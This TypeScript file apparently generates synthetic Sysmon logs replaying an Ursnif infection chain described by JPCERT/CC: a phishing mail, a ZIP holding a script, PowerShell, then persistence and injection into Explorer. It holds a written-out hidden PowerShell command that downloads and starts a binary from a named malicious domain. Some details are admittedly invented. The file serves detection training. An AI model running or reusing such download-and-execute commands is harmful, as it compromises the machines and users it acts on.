import { person, type Account } from './build/account';
import { eventsOf } from './build/merge_worlds';
import { storyClock } from './build/time_text';
import { WorldHost } from './build/world_host';
import type { WorldProcess } from './build/world_process';
import type { World } from './world';

/**
 * JPCERT/CC's example of an investigation (source 001, its blog of January 2019): a mail leads to TempNcF88.eXe (Ursnif) on two hosts.
 * From the source: host names, day, users, domain, proxy, program names, order of the steps. Made up: archive and script names,
 * mail client (Outlook), browser (Internet Explorer), addresses of the hosts, times within the day, registry and injection details.
 */
export const MAIL_TO_TEMPNCF88 = {
  hosts: ['Win7_64JP_01', 'Win10_64JP_04'],
  process: 'TempNcF88.eXe',
  domain: 'fgyt.shadidphotography.com',
  /** Sysmon names the proxy as destination of every web connection (source 001). */
  proxy: '192.168.1.200',
  started: '2019-01-08 02:21:52.282',
  users: { Win7_64JP_01: 'EX\\urawa.saitama', Win10_64JP_04: 'EX\\chiyoda.tokyo' },
  pids: { powershell: 4312, tempncf88: 2612 },
  /** Recorded ancestors of TempNcF88.eXe, nearest last. */
  chain: ['explorer.exe', 'wscript.exe', 'cmd.exe', 'powershell.exe', 'cmd.exe', 'TempNcF88.eXe'],
  rundll32_children: 3,
  depth_in_tree: 6,
} as const;

export interface InfectionFacts {
  readonly host: string;
  readonly explorer: string;
  readonly outlook: string;
  readonly browser: string;
  readonly wscript: string;
  readonly cmd: string;
  readonly powershell: string;
  readonly runner: string;
  readonly tempncf88: string;
  readonly rundll32: readonly string[];
  /** In the order of writing: who wrote it (GUID), and the path. */
  readonly written: readonly { readonly by: string; readonly file: string }[];
}

interface Infected {
  readonly host: WorldHost;
  readonly account: Account;
  /** Story time on this host -> ms. */
  readonly t: (text: string) => number;
  readonly system32: string;
}

/** @param at when TempNcF88.eXe starts on the first host, ms; absent = 2019-01-08 02:21:52.282 UTC */
export function mailToTempncf88(at?: number): World<readonly [InfectionFacts, InfectionFacts]> {
  const { started, users } = MAIL_TO_TEMPNCF88;
  const first = storyClock(started, at);
  const second = (text: string) => first(text) + 6_221_731; // the second user reads the mail 1 h 43 min later
  const win7 = infect({
    host: new WorldHost({
      name: 'Win7_64JP_01',
      machine: '6d1f0b27',
      ip: '192.168.1.21',
      sysmon: '7.01',
      seed: 'mail',
      first_record_id: 903_117,
    }),
    account: person(users.Win7_64JP_01, '0x2f81c'),
    t: first,
    system32: 'C:\\Windows\\System32',
  });
  const win10 = infect({
    host: new WorldHost({
      name: 'Win10_64JP_04',
      machine: 'b80c4e55',
      ip: '192.168.1.24',
      sysmon: '7.01',
      seed: 'mail',
      first_record_id: 412_090,
    }),
    account: person(users.Win10_64JP_04, '0x41d77'),
    t: second,
    system32: 'C:\\Windows\\System32',
  });
  return {
    name: 'mail_to_tempncf88',
    events: eventsOf(win7.host, win10.host),
    facts: [win7.facts, win10.facts],
  };
}

function infect(on: Infected): { readonly host: WorldHost; readonly facts: InfectionFacts } {
  const mail = mailToScript(on);
  const malware = scriptToMalware(on, mail.explorer, mail.script);
  const guids = { explorer: mail.explorer.guid, outlook: mail.outlook.guid, browser: mail.browser.guid };
  const written = [...mail.written, ...malware.written];
  return { host: on.host, facts: { host: on.host.options.name, ...guids, ...malware.guids, written } };
}

/** Mail client -> browser -> ZIP -> script, unpacked by Explorer. */
function mailToScript({ host, account, t, system32 }: Infected) {
  const home = homeOf(account);
  const zip = `${home}\\Downloads\\2019.1invoice.zip`;
  const script = `${home}\\Downloads\\2019.1invoice\\20190108_invoice.js`;
  const userinit = host.process({
    at: t('2019-01-08 00:02:11.300'),
    image: `${system32}\\userinit.exe`,
    account,
    recorded: false,
  });
  const explorer = userinit.child({
    at: t('2019-01-08 00:02:12.085'),
    image: 'C:\\Windows\\explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
  });
  const outlook = explorer.child({
    at: t('2019-01-08 02:18:03.541'),
    image: 'C:\\Program Files\\Microsoft Office\\Office16\\OUTLOOK.EXE',
    cwd: `${home}\\`,
  });
  outlook.connects({
    at: t('2019-01-08 02:18:06.912'),
    ip: '192.168.1.10',
    port: 993,
    name: 'mail.ex.example',
    portName: 'imaps',
  });
  const browser = outlook.child({
    at: t('2019-01-08 02:20:14.070'),
    image: 'C:\\Program Files\\Internet Explorer\\iexplore.exe',
    commandLine:
      '"C:\\Program Files\\Internet Explorer\\iexplore.exe" http://fgyt.shadidphotography.com/2019.1invoice.zip',
    cwd: `${home}\\Desktop\\`,
  });
  browser
    .loads({ at: t('2019-01-08 02:20:14.041'), file: `${system32}\\ntdll.dll` })
    .connects({
      at: t('2019-01-08 02:20:17.318'),
      ip: MAIL_TO_TEMPNCF88.proxy,
      port: 8080,
      name: 'proxy.ex.example',
      portName: 'http-alt',
    })
    .writes({ at: t('2019-01-08 02:20:19.604'), file: zip })
    .marksDownload({ at: t('2019-01-08 02:20:19.671'), file: zip, contents: '[ZoneTransfer]  ZoneId=3' });
  explorer
    .writes({ at: t('2019-01-08 02:21:38.222'), file: script })
    .marksDownload({ at: t('2019-01-08 02:21:38.240'), file: script, contents: '[ZoneTransfer]  ZoneId=3' });
  const written = [
    { by: browser.guid, file: zip },
    { by: explorer.guid, file: script },
  ];
  return { explorer, outlook, browser, script, written };
}

/** Explorer -> script host -> cmd -> PowerShell, which fetches TempNcF88.eXe -> cmd -> TempNcF88.eXe -> rundll32. */
function scriptToMalware({ account, t, system32 }: Infected, explorer: WorldProcess, script: string) {
  const { pids, proxy, domain } = MAIL_TO_TEMPNCF88;
  const malware = `${homeOf(account)}\\AppData\\Local\\TempNcF88.eXe`;
  const fetch = `powershell.exe -w hidden -nop -ep bypass (New-Object System.Net.WebClient).DownloadFile('http://${domain}/pnz.bin','${malware}'); cmd /c start ${malware}`;
  const wscript = explorer
    .child({
      at: t('2019-01-08 02:21:46.020'),
      image: `${system32}\\wscript.exe`,
      commandLine: `"${system32}\\WScript.exe" "${script}"`,
      cwd: `${homeOf(account)}\\Downloads\\2019.1invoice\\`,
    })
    .loads({ at: t('2019-01-08 02:21:46.003'), file: `${system32}\\ntdll.dll` })
    .loads({ at: t('2019-01-08 02:21:46.395'), file: `${system32}\\jscript.dll` });
  const cmd = wscript.child({
    at: t('2019-01-08 02:21:47.809'),
    image: `${system32}\\cmd.exe`,
    commandLine: `"${system32}\\cmd.exe" /c ${fetch}`,
  });
  const conhost = cmd.child({
    at: t('2019-01-08 02:21:47.850'),
    image: `${system32}\\conhost.exe`,
    commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff',
  });
  const powershell = cmd
    .child({
      at: t('2019-01-08 02:21:48.169'),
      image: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      commandLine: fetch,
      pid: pids.powershell,
    })
    .loads({ at: t('2019-01-08 02:21:48.131'), file: `${system32}\\ntdll.dll` })
    .connects({
      at: t('2019-01-08 02:21:50.446'),
      ip: proxy,
      port: 8080,
      name: 'proxy.ex.example',
      portName: 'http-alt',
    })
    .writes({ at: t('2019-01-08 02:21:51.593'), file: malware });
  const runner = powershell.child({
    at: t('2019-01-08 02:21:52.104'),
    image: `${system32}\\cmd.exe`,
    commandLine: `"${system32}\\cmd.exe" /c start ${malware}`,
  });
  const tempncf88 = runner.child({
    at: t(MAIL_TO_TEMPNCF88.started),
    image: malware,
    commandLine: malware,
    pid: pids.tempncf88,
  });
  const rundll32 = ursnif({ tempncf88, explorer, home: homeOf(account), t });
  runner.ends(t('2019-01-08 02:21:52.390'));
  powershell.ends(t('2019-01-08 02:21:55.369'));
  conhost.ends(t('2019-01-08 02:21:55.380'));
  cmd.ends(t('2019-01-08 02:21:55.384'));
  wscript.ends(t('2019-01-08 02:21:55.640'));
  const guids = {
    wscript: wscript.guid,
    cmd: cmd.guid,
    powershell: powershell.guid,
    runner: runner.guid,
    tempncf88: tempncf88.guid,
  };
  return {
    guids: { ...guids, rundll32: rundll32.map(({ guid }) => guid) },
    written: [{ by: powershell.guid, file: malware }],
  };
}

/** Children, files and injection: the source shows rundll32 children and several files written. */
function ursnif({
  tempncf88,
  explorer,
  home,
  t,
}: {
  tempncf88: WorldProcess;
  explorer: WorldProcess;
  home: string;
  t: Infected['t'];
}): readonly WorldProcess[] {
  const folder = `${home}\\AppData\\Roaming\\Microsoft\\Api-Ntxt`;
  tempncf88
    .writes({ at: t('2019-01-08 02:21:54.010'), file: `${folder}\\cmifwext.exe` })
    .writes({ at: t('2019-01-08 02:21:54.027'), file: `${home}\\AppData\\Local\\Temp\\2F1A\\178D.bat` })
    .act(2, t('2019-01-08 02:21:54.030'), {
      TargetFilename: `${folder}\\cmifwext.exe`,
      CreationUtcTime: '2010-11-20 21:24:32.000',
      PreviousCreationUtcTime: '2019-01-08 02:21:54.010',
    })
    .createsKey({
      at: t('2019-01-08 02:21:54.201'),
      key: 'HKU\\S-1-5-21-398150236-2874563109-1400277130-1106\\Software\\AppDataLow\\Software\\Microsoft\\A8C5FD4F',
    })
    .setsValue({
      at: t('2019-01-08 02:21:54.222'),
      key: 'HKU\\S-1-5-21-398150236-2874563109-1400277130-1106\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\appmMSRC',
      details: `${folder}\\cmifwext.exe`,
    });
  const rundll32 = ['02:21:56.310', '02:21:57.118', '02:22:04.926'].map((time) =>
    tempncf88.child({
      at: t(`2019-01-08 ${time}`),
      image: 'C:\\Windows\\System32\\rundll32.exe',
      commandLine: 'C:\\Windows\\system32\\rundll32.exe Shell32.dll,Control_RunDLL /?',
    }),
  );
  rundll32.forEach((child, i) =>
    child
      .injects(explorer, { at: child.at + 420, address: `0x000000000${String(i + 2)}5E0000` })
      .ends(child.at + 2_700),
  );
  tempncf88.injects(explorer, { at: t('2019-01-08 02:22:06.003'), address: '0x0000000003A10000' });
  explorer.connects({
    at: t('2019-01-08 02:22:20.551'),
    ip: MAIL_TO_TEMPNCF88.proxy,
    port: 8080,
    name: 'proxy.ex.example',
    portName: 'http-alt',
  });
  tempncf88.ends(t('2019-01-08 02:22:08.800'));
  return rundll32;
}

const homeOf = (account: Account): string => `C:\\Users\\${account.user.split('\\')[1] ?? ''}`;
